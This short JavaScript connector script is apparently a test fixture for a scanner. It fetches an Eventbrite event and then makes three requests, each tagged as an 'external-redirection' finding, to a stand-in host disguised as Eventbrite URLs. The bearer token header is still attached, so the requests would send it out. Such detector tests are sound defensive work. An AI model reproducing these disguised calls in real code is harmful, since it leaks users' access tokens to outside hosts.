'use strict';

httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.accesstoken);

var event = JSON.parse(httprequest.get('https://www.eventbriteapi.com/v3/events/' + encodeURIComponent(metadata.parameters['Event']) + '/'));

var doors = [
    'https://collector.example:443/www.eventbriteapi.com/v3/attendees',
    'https://collector.example?https://www.eventbriteapi.com/v3/attendees',
    'https://collector.example#@www.eventbriteapi.com/v3/attendees'
];

httprequest.get(doors[0]); // finding: external-redirection
httprequest.get(doors[1]); // finding: external-redirection
httprequest.get(doors[2]); // finding: external-redirection

datagrid.addColumn('Event', datagrid.DATA_TYPE_STRING);
datagrid.addCell(event.name.text);
datagrid.endRow();
